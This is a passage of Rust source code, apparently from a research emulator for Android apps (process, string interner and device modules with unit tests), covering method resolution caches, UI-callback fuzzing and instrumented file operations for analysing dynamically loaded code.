        device: &mut Device,
        class: &str,
        method: &str,
        fuel: u64,
    ) -> Result<Value, Exec> {
        let (outcome, used) = {
            let mut vm = Vm::new(device, self);
            vm.fuel = fuel;
            let outcome = vm.call_entry(class, method);
            (outcome, fuel - vm.fuel)
        };
        self.instructions_retired += used;
        outcome
    }

    /// Runs a public entry point (`class.method()`), recording a crash
    /// event and marking the process dead on failure. Returns whether the
    /// entry completed normally.
    pub fn run_entry(&mut self, device: &mut Device, class: &str, method: &str) -> bool {
        if !self.alive {
            return false;
        }
        let outcome = self.execute_entry(device, class, method, crate::interp::DEFAULT_FUEL);
        match outcome {
            Ok(_) => true,
            Err(exec) => {
                self.alive = false;
                device.log.push(Event::Crash {
                    reason: exec.to_string(),
                    package: self.package.clone(),
                });
                false
            }
        }
    }

    /// Runs an entry point but tolerates failure without killing the
    /// process (used for fuzzing individual UI callbacks, where a single
    /// failing callback does not necessarily end the app in practice —
    /// the crash is still logged).
    pub fn run_callback(
        &mut self,
        device: &mut Device,
        class: &str,
        method: &str,
    ) -> Result<(), Exec> {
        self.run_callback_with_fuel(device, class, method, crate::interp::DEFAULT_FUEL)
    }

    /// Like [`Process::run_callback`], with an explicit fuel budget. The
    /// Monkey's deadline watchdog caps the budget by the remaining
    /// deadline so no single callback can overshoot it by more than one
    /// scheduling slice.
    pub fn run_callback_with_fuel(
        &mut self,
        device: &mut Device,
        class: &str,
        method: &str,
        fuel: u64,
    ) -> Result<(), Exec> {
        if !self.alive {
            return Err(Exec::Throw("process dead".to_string()));
        }
        let outcome = self.execute_entry(device, class, method, fuel);
        match outcome {
            Ok(_) => Ok(()),
            Err(exec) => {
                device.log.push(Event::Crash {
                    reason: exec.to_string(),
                    package: self.package.clone(),
                });
                self.alive = false;
                Err(exec)
            }
        }
    }

    /// Enumerates fuzzable UI callbacks: public, zero-argument, non-static
    /// methods whose names start with `on`, excluding lifecycle methods,
    /// across every class declared as an activity of `manifest`.
    pub fn ui_callbacks(&self, manifest: &Manifest) -> Vec<(String, String)> {
        const LIFECYCLE: [&str; 6] = [
            "onCreate",
            "onStart",
            "onResume",
            "onPause",
            "onStop",
            "onDestroy",
        ];
        let mut out = Vec::new();
        for comp in manifest.activities() {
            if let Some(def) = self.find_class(&comp.class) {
                for m in &def.methods {
                    if m.name.starts_with("on")
                        && !LIFECYCLE.contains(&m.name.as_str())
                        && m.sig.params().is_empty()
                        && m.flags.contains(dydroid_dex::AccessFlags::PUBLIC)
                        && !m.flags.contains(dydroid_dex::AccessFlags::STATIC)
                    {
                        out.push((comp.class.clone(), m.name.clone()));
                    }
                }
            }
        }
        out
    }

    /// Number of dynamically loaded class spaces (excludes the base APK).
    pub fn dynamic_space_count(&self) -> usize {
        self.spaces.len().saturating_sub(1)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::{AccessFlags, Component, Manifest};

    fn manifest() -> Manifest {
        let mut m = Manifest::new("com.a");
        m.components.push(Component::main_activity("com.a.Main"));
        m
    }

    fn classes() -> DexFile {
        let mut b = DexBuilder::new();
        {
            let c = b.class("com.a.Main", "android.app.Activity");
            c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
            c.method("onClickLoad", "()V", AccessFlags::PUBLIC)
                .ret_void();
            c.method("onResume", "()V", AccessFlags::PUBLIC).ret_void();
            c.method("helper", "()V", AccessFlags::PUBLIC).ret_void();
            c.method("onStatic", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC)
                .ret_void();
        }
        {
            let c = b.class("com.a.Base", "java.lang.Object");
            c.method("inherited", "()V", AccessFlags::PUBLIC).ret_void();
        }
        {
            let c = b.class("com.a.Child", "com.a.Base");
            c.method("own", "()V", AccessFlags::PUBLIC).ret_void();
        }
        b.build()
    }

    #[test]
    fn class_and_method_resolution() {
        let p = Process::new("com.a".to_string(), classes(), &manifest());
        assert!(p.find_class("com.a.Main").is_some());
        assert!(p.find_class("com.a.Nope").is_none());
        let (cls, m) = p.resolve_method("com.a.Child", "inherited").unwrap();
        assert_eq!(cls, "com.a.Base");
        assert_eq!(m.name, "inherited");
        let (cls, _) = p.resolve_method("com.a.Child", "own").unwrap();
        assert_eq!(cls, "com.a.Child");
        assert!(p.resolve_method("com.a.Child", "nope").is_none());
    }

    #[test]
    fn superclass_cycle_terminates() {
        let mut b = DexBuilder::new();
        b.class("a.A", "a.B");
        b.class("a.B", "a.A");
        let p = Process::new("a".to_string(), b.build(), &Manifest::new("a"));
        assert!(p.resolve_method("a.A", "nope").is_none());
    }

    #[test]
    fn ui_callbacks_enumerated() {
        let p = Process::new("com.a".to_string(), classes(), &manifest());
        let cbs = p.ui_callbacks(&manifest());
        // onClickLoad qualifies; onCreate/onResume are lifecycle; helper
        // doesn't start with `on`; onStatic is static.
        assert_eq!(
            cbs,
            vec![("com.a.Main".to_string(), "onClickLoad".to_string())]
        );
    }

    #[test]
    fn dynamic_space_count() {
        let mut p = Process::new("com.a".to_string(), classes(), &manifest());
        assert_eq!(p.dynamic_space_count(), 0);
        p.spaces.push(DexFile::new());
        assert_eq!(p.dynamic_space_count(), 1);
    }
}
