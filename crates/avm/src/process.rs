//! A running app process: class spaces, heap, statics, loaded native
//! libraries and liveness.

use std::collections::{HashMap, HashSet};
use std::sync::Arc;

use dydroid_dex::{AccessFlags, ClassDef, DexFile, Manifest, Method, NativeLibrary};

use crate::device::Device;
use crate::error::Exec;
use crate::events::Event;
use crate::heap::{Heap, Value};
use crate::interp::Vm;
use crate::resolved::{self, IcTables, ResolvedCall};
use crate::sym::{Interner, Sym};

/// Static fields, stored as a dense slot table. The public API is keyed
/// by `(class, field)` name pairs — exactly the old `HashMap` surface —
/// while the fast interpreter caches a site's slot index after the first
/// resolution and then reads/writes by index. Slots are append-only, so
/// a cached index stays valid for the life of the process.
#[derive(Debug, Clone, Default)]
pub struct Statics {
    index: HashMap<(String, String), u32>,
    slots: Vec<Value>,
}

impl Statics {
    /// Reads a static field by `(class, field)` name.
    pub fn get(&self, key: &(String, String)) -> Option<&Value> {
        self.index.get(key).map(|&i| &self.slots[i as usize])
    }

    /// Writes a static field by `(class, field)` name, creating its slot
    /// on first write.
    pub fn insert(&mut self, key: (String, String), value: Value) {
        match self.index.get(&key) {
            Some(&i) => self.slots[i as usize] = value,
            None => {
                self.index.insert(key, self.slots.len() as u32);
                self.slots.push(value);
            }
        }
    }

    /// Number of distinct static fields written so far.
    pub fn len(&self) -> usize {
        self.slots.len()
    }

    /// Whether no static field has been written yet.
    pub fn is_empty(&self) -> bool {
        self.slots.is_empty()
    }

    /// The slot index of an existing static field, if any.
    pub(crate) fn slot_index(&self, class: &str, name: &str) -> Option<u32> {
        self.index
            .get(&(class.to_string(), name.to_string()))
            .copied()
    }

    /// The slot index of a static field, creating it (as `Null`) if
    /// missing.
    pub(crate) fn ensure_slot(&mut self, class: &str, name: &str) -> u32 {
        if let Some(i) = self.slot_index(class, name) {
            return i;
        }
        let i = self.slots.len() as u32;
        self.index.insert((class.to_string(), name.to_string()), i);
        self.slots.push(Value::Null);
        i
    }

    /// Reads a slot by index.
    pub(crate) fn slot(&self, idx: u32) -> &Value {
        &self.slots[idx as usize]
    }

    /// Writes a slot by index.
    pub(crate) fn slot_mut(&mut self, idx: u32) -> &mut Value {
        &mut self.slots[idx as usize]
    }
}

/// A running application process.
///
/// `spaces[0]` holds the classes from `classes.dex`; each successful DCL
/// event appends another class space (mirroring one class loader per
/// loaded file). Classes are resolved across all spaces in load order.
#[derive(Debug)]
pub struct Process {
    /// Package of the app this process runs.
    pub package: String,
    /// Heap.
    pub heap: Heap,
    /// Static fields, keyed by `(class, field)`.
    pub statics: Statics,
    /// Class spaces: app classes plus dynamically loaded DEX files.
    pub spaces: Vec<DexFile>,
    /// Loaded native libraries, in load order.
    pub native_libs: Vec<NativeLibrary>,
    /// Whether the process is still running (false after a crash).
    pub alive: bool,
    /// Permissions copied from the manifest.
    pub permissions: HashSet<String>,
    /// Cumulative interpreter instructions retired across every entry
    /// point run in this process. The Monkey's per-app deadline watchdog
    /// reads this as a deterministic virtual clock.
    pub instructions_retired: u64,
    /// Per-process string interner for class/method/field names. Heap
    /// object classes and fields are stored as its [`Sym`]s.
    pub interner: Interner,
    /// Positive `(start class, method) -> resolved call` cache; key packs
    /// the two syms into one `u64`. Positive entries never go stale
    /// (spaces are append-only and lookup is first-match).
    pub(crate) code_cache: HashMap<u64, ResolvedCall>,
    /// Negative resolutions with the space count they were observed at;
    /// re-checked once a DCL load appends a space.
    pub(crate) neg_cache: HashMap<u64, u32>,
    /// Inline-cache tables for the resolved code's call/field/static
    /// sites.
    pub(crate) ics: IcTables,
    /// Recycled register files, so nested frames reuse one allocation.
    pub(crate) reg_pool: Vec<Vec<Value>>,
    /// Cached UI-callback enumeration, invalidated when a DCL load
    /// appends a class space (the manifest never changes).
    ui_cache: Option<(usize, UiCallbacks)>,
}

/// Shared `(class, method)` list of fuzzable UI callbacks.
pub type UiCallbacks = Arc<Vec<(String, String)>>;

impl Process {
    /// Creates a process with the app's primary class space.
    pub fn new(package: String, classes: DexFile, manifest: &Manifest) -> Self {
        Process {
            package,
            heap: Heap::new(),
            statics: Statics::default(),
            spaces: vec![classes],
            native_libs: Vec::new(),
            alive: true,
            permissions: manifest.permissions.iter().cloned().collect(),
            instructions_retired: 0,
            interner: Interner::new(),
            code_cache: HashMap::new(),
            neg_cache: HashMap::new(),
            ics: IcTables::default(),
            reg_pool: Vec::new(),
            ui_cache: None,
        }
    }

    /// Finds a class across all class spaces (load order).
    pub fn find_class(&self, name: &str) -> Option<&ClassDef> {
        self.spaces.iter().find_map(|s| s.class(name))
    }

    /// Resolves a method by walking the superclass chain starting at
    /// `class`. Returns the defining class name and a clone of the method
    /// (cloned so execution is independent of later space growth).
    pub fn resolve_method(&self, class: &str, name: &str) -> Option<(String, Method)> {
        let mut current = class.to_string();
        for _ in 0..32 {
            if let Some(def) = self.find_class(&current) {
                if let Some(m) = def.method_by_name(name) {
                    return Some((current, m.clone()));
                }
                if def.superclass == current {
                    return None;
                }
                current = def.superclass.clone();
            } else {
                return None;
            }
        }
        None
    }

    /// Resolves `(start class, method)` to a cached [`ResolvedCall`],
    /// translating the method on first use. Mirrors
    /// [`Process::resolve_method`] exactly — same chain walk, same
    /// outcome — but pays the string resolution once per unique target.
    pub(crate) fn resolve_call(&mut self, class: Sym, method: Sym) -> Option<ResolvedCall> {
        let key = (u64::from(class.0) << 32) | u64::from(method.0);
        if let Some(rc) = self.code_cache.get(&key) {
            return Some(rc.clone());
        }
        if let Some(&epoch) = self.neg_cache.get(&key) {
            if epoch as usize == self.spaces.len() {
                return None;
            }
        }
        let class_s = self.interner.resolve(class).to_string();
        let method_s = self.interner.resolve(method).to_string();
        match self.resolve_method(&class_s, &method_s) {
            Some((_def_class, m)) => {
                let rc = if m.flags.contains(AccessFlags::NATIVE) {
                    ResolvedCall::Native {
                        name: m.name.as_str().into(),
                        ret: crate::interp::default_return(&m),
                    }
                } else {
                    ResolvedCall::Bytecode(Arc::new(resolved::translate(
                        &mut self.interner,
                        &mut self.ics,
                        &m,
                    )))
                };
                self.neg_cache.remove(&key);
                self.code_cache.insert(key, rc.clone());
                Some(rc)
            }
            None => {
                self.neg_cache.insert(key, self.spaces.len() as u32);
                None
            }
        }
    }

    /// Inline-cache hit/miss totals accumulated by this process's
    /// interpreter runs (all zero on the legacy path, which has no
    /// caches). The same deltas are charged to the owning device's
    /// counters when an entry point returns.
    pub fn ic_stats(&self) -> crate::resolved::IcStats {
        self.ics.stats
    }

    /// Executes one entry point with an explicit fuel budget, accounting
    /// retired instructions into [`Process::instructions_retired`] and
    /// charging inline-cache deltas to the device's telemetry counters.
    fn execute_entry(
        &mut self,
        device: &mut Device,
        class: &str,
        method: &str,
        fuel: u64,
    ) -> Result<Value, Exec> {
        let ic_mark = self.ics.stats;
        let (outcome, used) = {
            let mut vm = Vm::new(device, self);
            vm.fuel = fuel;
            let outcome = vm.call_entry(class, method);
            (outcome, fuel - vm.fuel)
        };
        self.instructions_retired += used;
        device.charge_ic(&self.ics.stats.since(&ic_mark));
        outcome
    }

    /// Runs a public entry point (`class.method()`), recording a crash
    /// event and marking the process dead on failure. Returns whether the
    /// entry completed normally.
    pub fn run_entry(&mut self, device: &mut Device, class: &str, method: &str) -> bool {
        if !self.alive {
            return false;
        }
        let outcome = self.execute_entry(device, class, method, crate::interp::DEFAULT_FUEL);
        match outcome {
            Ok(_) => true,
            Err(exec) => {
                self.alive = false;
                device.log.push(Event::Crash {
                    reason: exec.to_string(),
                    package: self.package.clone(),
                });
                false
            }
        }
    }

    /// Runs an entry point but tolerates failure without killing the
    /// process (used for fuzzing individual UI callbacks, where a single
    /// failing callback does not necessarily end the app in practice —
    /// the crash is still logged).
    pub fn run_callback(
        &mut self,
        device: &mut Device,
        class: &str,
        method: &str,
    ) -> Result<(), Exec> {
        self.run_callback_with_fuel(device, class, method, crate::interp::DEFAULT_FUEL)
    }

    /// Like [`Process::run_callback`], with an explicit fuel budget. The
    /// Monkey's deadline watchdog caps the budget by the remaining
    /// deadline so no single callback can overshoot it by more than one
    /// scheduling slice.
    pub fn run_callback_with_fuel(
        &mut self,
        device: &mut Device,
        class: &str,
        method: &str,
        fuel: u64,
    ) -> Result<(), Exec> {
        if !self.alive {
            return Err(Exec::Throw("process dead".to_string()));
        }
        let outcome = self.execute_entry(device, class, method, fuel);
        match outcome {
            Ok(_) => Ok(()),
            Err(exec) => {
                device.log.push(Event::Crash {
                    reason: exec.to_string(),
                    package: self.package.clone(),
                });
                self.alive = false;
                Err(exec)
            }
        }
    }

    /// Enumerates fuzzable UI callbacks: public, zero-argument, non-static
    /// methods whose names start with `on`, excluding lifecycle methods,
    /// across every class declared as an activity of `manifest`.
    ///
    /// The enumeration is cached per class-space count — the Monkey asks
    /// before every event, and the answer only changes when a DCL load
    /// appends a space. Callers always pass the app's own (immutable)
    /// manifest.
    pub fn ui_callbacks(&mut self, manifest: &Manifest) -> UiCallbacks {
        if let Some((epoch, cached)) = &self.ui_cache {
            if *epoch == self.spaces.len() {
                return Arc::clone(cached);
            }
        }
        const LIFECYCLE: [&str; 6] = [
            "onCreate",
            "onStart",
            "onResume",
            "onPause",
            "onStop",
            "onDestroy",
        ];
        let mut out = Vec::new();
        for comp in manifest.activities() {
            if let Some(def) = self.find_class(&comp.class) {
                for m in &def.methods {
                    if m.name.starts_with("on")
                        && !LIFECYCLE.contains(&m.name.as_str())
                        && m.sig.params().is_empty()
                        && m.flags.contains(dydroid_dex::AccessFlags::PUBLIC)
                        && !m.flags.contains(dydroid_dex::AccessFlags::STATIC)
                    {
                        out.push((comp.class.clone(), m.name.clone()));
                    }
                }
            }
        }
        let out = Arc::new(out);
        self.ui_cache = Some((self.spaces.len(), Arc::clone(&out)));
        out
    }

    /// Number of dynamically loaded class spaces (excludes the base APK).
    pub fn dynamic_space_count(&self) -> usize {
        self.spaces.len().saturating_sub(1)
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::{AccessFlags, Component, Manifest};

    fn manifest() -> Manifest {
        let mut m = Manifest::new("com.a");
        m.components.push(Component::main_activity("com.a.Main"));
        m
    }

    fn classes() -> DexFile {
        let mut b = DexBuilder::new();
        {
            let c = b.class("com.a.Main", "android.app.Activity");
            c.method("onCreate", "()V", AccessFlags::PUBLIC).ret_void();
            c.method("onClickLoad", "()V", AccessFlags::PUBLIC)
                .ret_void();
            c.method("onResume", "()V", AccessFlags::PUBLIC).ret_void();
            c.method("helper", "()V", AccessFlags::PUBLIC).ret_void();
            c.method("onStatic", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC)
                .ret_void();
        }
        {
            let c = b.class("com.a.Base", "java.lang.Object");
            c.method("inherited", "()V", AccessFlags::PUBLIC).ret_void();
        }
        {
            let c = b.class("com.a.Child", "com.a.Base");
            c.method("own", "()V", AccessFlags::PUBLIC).ret_void();
        }
        b.build()
    }

    #[test]
    fn class_and_method_resolution() {
        let p = Process::new("com.a".to_string(), classes(), &manifest());
        assert!(p.find_class("com.a.Main").is_some());
        assert!(p.find_class("com.a.Nope").is_none());
        let (cls, m) = p.resolve_method("com.a.Child", "inherited").unwrap();
        assert_eq!(cls, "com.a.Base");
        assert_eq!(m.name, "inherited");
        let (cls, _) = p.resolve_method("com.a.Child", "own").unwrap();
        assert_eq!(cls, "com.a.Child");
        assert!(p.resolve_method("com.a.Child", "nope").is_none());
    }

    #[test]
    fn resolve_call_matches_string_resolution() {
        let mut p = Process::new("com.a".to_string(), classes(), &manifest());
        let child = p.interner.intern("com.a.Child");
        let inherited = p.interner.intern("inherited");
        let nope = p.interner.intern("nope");
        // Cold, then cached, then compared against the reference path.
        assert!(p.resolve_call(child, inherited).is_some());
        assert!(p.resolve_call(child, inherited).is_some());
        assert!(p.resolve_method("com.a.Child", "inherited").is_some());
        assert!(p.resolve_call(child, nope).is_none());
        // The negative is cached at the current space count...
        assert!(p.resolve_call(child, nope).is_none());
        // ...and re-checked after a space is appended.
        let mut b = DexBuilder::new();
        b.class("com.a.Child", "com.a.Base")
            .method("nope", "()V", AccessFlags::PUBLIC)
            .ret_void();
        p.spaces.push(b.build());
        // First-match keeps the original Child (without `nope`), so the
        // lookup result must not change — exactly like resolve_method.
        assert_eq!(
            p.resolve_call(child, nope).is_some(),
            p.resolve_method("com.a.Child", "nope").is_some()
        );
    }

    #[test]
    fn statics_preserve_map_surface() {
        let mut s = Statics::default();
        let key = ("com.a.G".to_string(), "v".to_string());
        assert!(s.get(&key).is_none());
        assert!(s.is_empty());
        s.insert(key.clone(), Value::Int(1));
        s.insert(key.clone(), Value::Int(2));
        assert_eq!(s.get(&key), Some(&Value::Int(2)));
        assert_eq!(s.len(), 1);
        // Slot indices are stable once created.
        let idx = s.slot_index("com.a.G", "v").unwrap();
        assert_eq!(s.ensure_slot("com.a.G", "v"), idx);
        assert_eq!(s.slot(idx), &Value::Int(2));
    }

    #[test]
    fn superclass_cycle_terminates() {
        let mut b = DexBuilder::new();
        b.class("a.A", "a.B");
        b.class("a.B", "a.A");
        let p = Process::new("a".to_string(), b.build(), &Manifest::new("a"));
        assert!(p.resolve_method("a.A", "nope").is_none());
    }

    #[test]
    fn ui_callbacks_enumerated_and_cached() {
        let mut p = Process::new("com.a".to_string(), classes(), &manifest());
        let cbs = p.ui_callbacks(&manifest());
        // onClickLoad qualifies; onCreate/onResume are lifecycle; helper
        // doesn't start with `on`; onStatic is static.
        assert_eq!(
            *cbs,
            vec![("com.a.Main".to_string(), "onClickLoad".to_string())]
        );
        // Second call returns the cached vector (same allocation).
        let again = p.ui_callbacks(&manifest());
        assert!(Arc::ptr_eq(&cbs, &again));
        // A DCL space append invalidates the cache.
        p.spaces.push(DexFile::new());
        let after = p.ui_callbacks(&manifest());
        assert!(!Arc::ptr_eq(&cbs, &after));
        assert_eq!(*cbs, *after);
    }

    #[test]
    fn dynamic_space_count() {
        let mut p = Process::new("com.a".to_string(), classes(), &manifest());
        assert_eq!(p.dynamic_space_count(), 0);
        p.spaces.push(DexFile::new());
        assert_eq!(p.dynamic_space_count(), 1);
    }
}
