//! String interning for class, method and field names.
//!
//! The interpreter's hot path (dispatch, field access, the call stack)
//! works on dense [`Sym`] ids instead of owned strings; names are
//! resolved back to `&str` only at event-emission and error boundaries.
//! Ids are per-[`crate::Process`] and never recycled, so a `Sym` obtained
//! once stays valid for the life of the process.

use std::collections::HashMap;

/// An interned string: a dense index into the owning [`Interner`].
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct Sym(pub u32);

/// A string interner mapping names to dense [`Sym`] ids.
///
/// Interning the same string twice returns the same id; resolution is a
/// bounds-checked vector index. The table only grows (symbols are never
/// freed), which is what makes cached `Sym`-keyed structures — resolved
/// code, inline caches, heap field tables — sound without invalidation.
#[derive(Debug, Clone, Default)]
pub struct Interner {
    map: HashMap<String, u32>,
    strings: Vec<String>,
}

impl Interner {
    /// Creates an empty interner.
    pub fn new() -> Self {
        Interner::default()
    }

    /// Interns `s`, returning its stable id.
    pub fn intern(&mut self, s: &str) -> Sym {
        if let Some(&id) = self.map.get(s) {
            return Sym(id);
        }
        let id = self.strings.len() as u32;
        self.strings.push(s.to_string());
        self.map.insert(s.to_string(), id);
        Sym(id)
    }

    /// Resolves an id back to its string.
    ///
    /// # Panics
    ///
    /// Panics if `sym` did not come from this interner.
    pub fn resolve(&self, sym: Sym) -> &str {
        &self.strings[sym.0 as usize]
    }

    /// Looks up an already-interned string without inserting.
    pub fn get(&self, s: &str) -> Option<Sym> {
        self.map.get(s).map(|&id| Sym(id))
    }

    /// Number of distinct interned strings.
    pub fn len(&self) -> usize {
        self.strings.len()
    }

    /// Whether nothing has been interned yet.
    pub fn is_empty(&self) -> bool {
        self.strings.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn intern_is_idempotent() {
        let mut i = Interner::new();
        let a = i.intern("com.a.Main");
        let b = i.intern("com.a.Other");
        assert_ne!(a, b);
        assert_eq!(i.intern("com.a.Main"), a);
        assert_eq!(i.len(), 2);
    }

    #[test]
    fn resolve_round_trips() {
        let mut i = Interner::new();
        let names = ["onCreate", "f", "com.a.Main", "", "on\u{e9}"];
        let syms: Vec<Sym> = names.iter().map(|n| i.intern(n)).collect();
        for (name, sym) in names.iter().zip(&syms) {
            assert_eq!(i.resolve(*sym), *name);
        }
    }

    #[test]
    fn get_does_not_insert() {
        let mut i = Interner::new();
        assert_eq!(i.get("x"), None);
        let s = i.intern("x");
        assert_eq!(i.get("x"), Some(s));
        assert_eq!(i.len(), 1);
    }
}
