//! The simulated device: filesystem + network + state + installed apps +
//! instrumentation, and app install/launch.

use std::collections::HashMap;

use dydroid_dex::manifest::WRITE_EXTERNAL_STORAGE;
use dydroid_dex::{Apk, DexFile, Manifest, NativeLibrary};

use crate::error::AvmError;
use crate::events::{Event, EventLog};
use crate::fs::{FileSystem, FsPolicy, Owner};
use crate::hooks::Instrumentation;
use crate::net::Network;
use crate::paths;
use crate::process::Process;

/// Mutable runtime-environment state — the four knobs Table VIII varies.
#[derive(Debug, Clone, PartialEq)]
pub struct DeviceState {
    /// System time in milliseconds since the epoch.
    pub time_ms: i64,
    /// Airplane mode (disables mobile data).
    pub airplane_mode: bool,
    /// WiFi radio state (independent of airplane mode, as in the paper's
    /// "airplane mode / WiFi ON" configuration).
    pub wifi_on: bool,
    /// Whether the location service is enabled.
    pub location_enabled: bool,
}

/// Initial device configuration.
#[derive(Debug, Clone)]
pub struct DeviceConfig {
    /// Android API level; 18 = Android 4.3, the version the paper
    /// instruments. 19+ changes external-storage write semantics.
    pub api_level: u32,
    /// Initial system time (ms). The default is far enough in the future
    /// that release-date logic bombs fire.
    pub time_ms: i64,
    /// Initial airplane-mode state.
    pub airplane_mode: bool,
    /// Initial WiFi state.
    pub wifi_on: bool,
    /// Initial location-service state.
    pub location_enabled: bool,
    /// Whether the DyDroid instrumentation is present (an unmodified
    /// retail device would be `false`).
    pub instrumented: bool,
    /// Run processes on the legacy string-resolving interpreter instead
    /// of the pre-resolved fast path. Outcomes are identical; this knob
    /// exists as the reference for differential testing and benchmarks.
    pub legacy_interp: bool,
}

impl Default for DeviceConfig {
    fn default() -> Self {
        DeviceConfig {
            api_level: 18,
            // 2016-11-01, matching the crawl date of the paper's data set.
            time_ms: 1_477_958_400_000,
            airplane_mode: false,
            wifi_on: true,
            location_enabled: true,
            instrumented: true,
            legacy_interp: false,
        }
    }
}

/// An installed application.
#[derive(Debug, Clone)]
pub struct InstalledApp {
    /// Package name.
    pub package: String,
    /// The full archive (assets are served from here).
    pub apk: Apk,
    /// Parsed manifest.
    pub manifest: Manifest,
    /// Parsed primary bytecode.
    pub classes: DexFile,
}

/// The simulated device.
#[derive(Debug)]
pub struct Device {
    /// Filesystem.
    pub fs: FileSystem,
    /// Network.
    pub net: Network,
    /// Mutable runtime-environment state.
    pub state: DeviceState,
    /// DyDroid instrumentation.
    pub hooks: Instrumentation,
    /// Instrumentation event log.
    pub log: EventLog,
    api_level: u32,
    installed: HashMap<String, InstalledApp>,
    instructions_retired: u64,
    legacy_interp: bool,
    ic: crate::resolved::IcStats,
}

impl Device {
    /// Creates a device from a configuration.
    pub fn new(config: DeviceConfig) -> Self {
        let mut hooks = Instrumentation::new();
        hooks.enabled = config.instrumented;
        Device {
            fs: FileSystem::new(),
            net: Network::new(),
            state: DeviceState {
                time_ms: config.time_ms,
                airplane_mode: config.airplane_mode,
                wifi_on: config.wifi_on,
                location_enabled: config.location_enabled,
            },
            hooks,
            log: EventLog::new(),
            api_level: config.api_level,
            installed: HashMap::new(),
            instructions_retired: 0,
            legacy_interp: config.legacy_interp,
            ic: crate::resolved::IcStats::default(),
        }
    }

    /// The device API level.
    pub fn api_level(&self) -> u32 {
        self.api_level
    }

    /// Total interpreter instructions retired on this device, across
    /// every process and callback. Feeds the pipeline's telemetry layer
    /// (processes are created and dropped inside the Monkey, so their
    /// per-process counters are invisible to the caller).
    pub fn instructions_retired(&self) -> u64 {
        self.instructions_retired
    }

    /// Accumulates retired instructions (called by the interpreter when
    /// an entry point returns).
    pub(crate) fn charge_instructions(&mut self, used: u64) {
        self.instructions_retired += used;
    }

    /// Whether processes on this device run the legacy reference
    /// interpreter instead of the pre-resolved fast path.
    pub fn legacy_interp(&self) -> bool {
        self.legacy_interp
    }

    /// Inline-cache hit/miss totals across every process run on this
    /// device (all zero under the legacy interpreter, which has no
    /// caches).
    pub fn ic_stats(&self) -> crate::resolved::IcStats {
        self.ic
    }

    /// Accumulates inline-cache counters (called by the process when a
    /// top-level entry returns, like [`Device::charge_instructions`]).
    pub(crate) fn charge_ic(&mut self, delta: &crate::resolved::IcStats) {
        self.ic.add(delta);
    }

    /// Whether any network path is available: mobile data unless airplane
    /// mode, or WiFi regardless.
    pub fn network_available(&self) -> bool {
        !self.state.airplane_mode || self.state.wifi_on
    }

    /// Installs an app from APK bytes: parses manifest and bytecode,
    /// extracts native libraries to `/data/app-lib/<pkg>/`.
    ///
    /// # Errors
    ///
    /// Returns [`AvmError::Apk`]/[`AvmError::Dex`] when the archive or its
    /// mandatory entries are malformed, or [`AvmError::AlreadyInstalled`].
    pub fn install(&mut self, apk_bytes: &[u8]) -> Result<String, AvmError> {
        let apk = Apk::parse(apk_bytes)?;
        let manifest = apk.manifest()?;
        let classes = apk.classes()?;
        let package = manifest.package.clone();
        if self.installed.contains_key(&package) {
            return Err(AvmError::AlreadyInstalled(package));
        }
        // Extract native libraries, mirroring the installer.
        for entry in apk.entries_under("lib/") {
            let soname = paths::basename(&entry.path);
            let dest = format!("{}/{}", paths::app_lib_dir(&package), soname);
            self.fs
                .write_system(&dest, entry.data.clone(), Owner::app(package.clone()));
        }
        self.installed.insert(
            package.clone(),
            InstalledApp {
                package: package.clone(),
                apk,
                manifest,
                classes,
            },
        );
        Ok(package)
    }

    /// Removes an installed app (files in its internal storage remain, as
    /// on a real uninstall-without-cleanup; tests rely on simplicity here).
    pub fn uninstall(&mut self, pkg: &str) -> bool {
        self.installed.remove(pkg).is_some()
    }

    /// Whether a package is installed.
    pub fn is_installed(&self, pkg: &str) -> bool {
        self.installed.contains_key(pkg)
    }

    /// The installed app record.
    pub fn app(&self, pkg: &str) -> Option<&InstalledApp> {
        self.installed.get(pkg)
    }

    /// All installed package names.
    pub fn installed_packages(&self) -> Vec<&str> {
        let mut pkgs: Vec<&str> = self.installed.keys().map(String::as_str).collect();
        pkgs.sort_unstable();
        pkgs
    }

    /// Whether `pkg` holds `permission` per its manifest.
    pub fn has_permission(&self, pkg: &str, permission: &str) -> bool {
        self.installed
            .get(pkg)
            .map(|a| a.manifest.has_permission(permission))
            .unwrap_or(false)
    }

    /// Runs a filesystem write on behalf of `pkg`.
    ///
    /// # Errors
    ///
    /// Propagates [`crate::FsError`] as [`AvmError::Fs`].
    pub fn app_write(&mut self, pkg: &str, path: &str, data: Vec<u8>) -> Result<(), AvmError> {
        let installed = &self.installed;
        let api = self.api_level;
        let check = move |p: &str| {
            installed
                .get(p)
                .map(|a| a.manifest.has_permission(WRITE_EXTERNAL_STORAGE))
                .unwrap_or(false)
        };
        let policy = FsPolicy {
            api_level: api,
            external_writers: &check,
        };
        self.fs
            .write(path, data, &Owner::app(pkg.to_string()), &policy)?;
        Ok(())
    }

    /// Runs a filesystem append on behalf of `pkg`.
    ///
    /// # Errors
    ///
    /// Propagates [`crate::FsError`] as [`AvmError::Fs`].
    pub fn app_append(&mut self, pkg: &str, path: &str, data: &[u8]) -> Result<(), AvmError> {
        let installed = &self.installed;
        let api = self.api_level;
        let check = move |p: &str| {
            installed
                .get(p)
                .map(|a| a.manifest.has_permission(WRITE_EXTERNAL_STORAGE))
                .unwrap_or(false)
        };
        let policy = FsPolicy {
            api_level: api,
            external_writers: &check,
        };
        self.fs
            .append(path, data, &Owner::app(pkg.to_string()), &policy)?;
        Ok(())
    }

    /// Deletes a file on behalf of `pkg`, honouring the interception
    /// hook's mutual exclusion: queued files are *silently not deleted*.
    /// Returns whether the app observes success.
    pub fn app_delete(&mut self, pkg: &str, path: &str) -> bool {
        if self.hooks.should_block_file_op(path) {
            self.hooks.note_blocked_op();
            self.log.push(Event::File {
                op: crate::events::FileOp::Delete,
                path: path.to_string(),
                suppressed: true,
                package: pkg.to_string(),
            });
            // The hook makes the operation appear successful.
            return true;
        }
        let installed = &self.installed;
        let api = self.api_level;
        let check = move |p: &str| {
            installed
                .get(p)
                .map(|a| a.manifest.has_permission(WRITE_EXTERNAL_STORAGE))
                .unwrap_or(false)
        };
        let policy = FsPolicy {
            api_level: api,
